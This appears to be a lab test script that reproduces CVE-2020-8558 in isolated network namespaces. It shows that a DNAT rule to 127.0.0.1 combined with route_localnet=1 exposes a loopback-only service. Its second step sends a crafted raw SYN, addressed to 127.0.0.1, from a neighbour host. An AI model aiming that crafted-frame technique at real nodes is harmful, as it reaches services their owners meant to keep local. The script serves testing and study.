#!/usr/bin/env bash
# desc: CVE-2020-8558: route_localnet=1 and a DNAT to 127.0.0.1 expose a loopback-only service; a neighbour's frame to 127.0.0.1 is accepted on eth0
# Topology: neighbour 10.10.1.2 --eth0-- node 10.10.1.1 (service on 127.0.0.1:8080, "localhost NodePort" 30080)
# shellcheck source-path=SCRIPTDIR/.. source=lib.sh
source "$(dirname "${BASH_SOURCE[0]}")/../lib.sh"

pl_begin loopback-martian "${1:-}" "route_localnet=1 on the node (as kube-proxy set it): DNAT :30080 -> 127.0.0.1:8080 makes a loopback-only server reachable from eth0, and a crafted frame with dst 127.0.0.1 from the neighbour reaches 127.0.0.1:8080 directly"
pl_ns neighbour X
pl_ns node N
pl_veth "$X" eth0 "$N" eth0 02:00:0a:0a:01:02 02:00:0a:0a:01:01
pl_addr "$X" eth0 10.10.1.2/24
pl_addr "$N" eth0 10.10.1.1/24
pl_sysctl "$N" net.ipv4.conf.all.route_localnet=1 net.ipv4.conf.eth0.route_localnet=1

pl_node "$N"
ip netns exec "$N" iptables -t nat -A PREROUTING -p tcp --dport 30080 -j DNAT --to-destination 127.0.0.1:8080
pl_http_server "$N" 127.0.0.1 8080 loopback-only-http

pl_capture_start
# 1. the "localhost NodePort": DNAT to 127.0.0.1, allowed by route_localnet
pl_run "$X" curl -sS --max-time 3 --local-port 41001 -w '%{http_code}\n' http://10.10.1.1:30080/
# 2. a raw frame to the node's MAC with IP destination 127.0.0.1 (the neighbour's own kernel
#    would never send it): a SYN to the loopback-only port
pl_run "$X" "$PL_PY" "$(pl_py inject.py)" 10.10.1.2 127.0.0.1 41002 8080 S --seq 1000 --iface eth0 --dst-mac 02:00:0a:0a:01:01

pl_route_get 127.0.0.1 from 10.10.1.2 iif eth0
pl_route_get 10.10.1.2 from 127.0.0.1

pl_expect '{"name":"DNAT to 127.0.0.1 from a neighbour: connection established","kind":"flows","where":{"proto":"tcp","orig.src":"10.10.1.2","orig.dport":30080,"reply.src":"127.0.0.1","reply.sport":8080,"assured":true},"count":["==",1]}'
pl_expect '{"name":"a packet to 127.0.0.1 arrived on eth0 and was tracked","kind":"flows","where":{"proto":"tcp","orig.src":"10.10.1.2","orig.dst":"127.0.0.1","orig.dport":8080},"count":["==",1]}'
pl_expect '{"name":"route 127.0.0.1 from a neighbour on eth0 is local (route_localnet)","kind":"route","query":"127.0.0.1 from 10.10.1.2 iif eth0","field":"type","equals":"local"}'

pl_finish
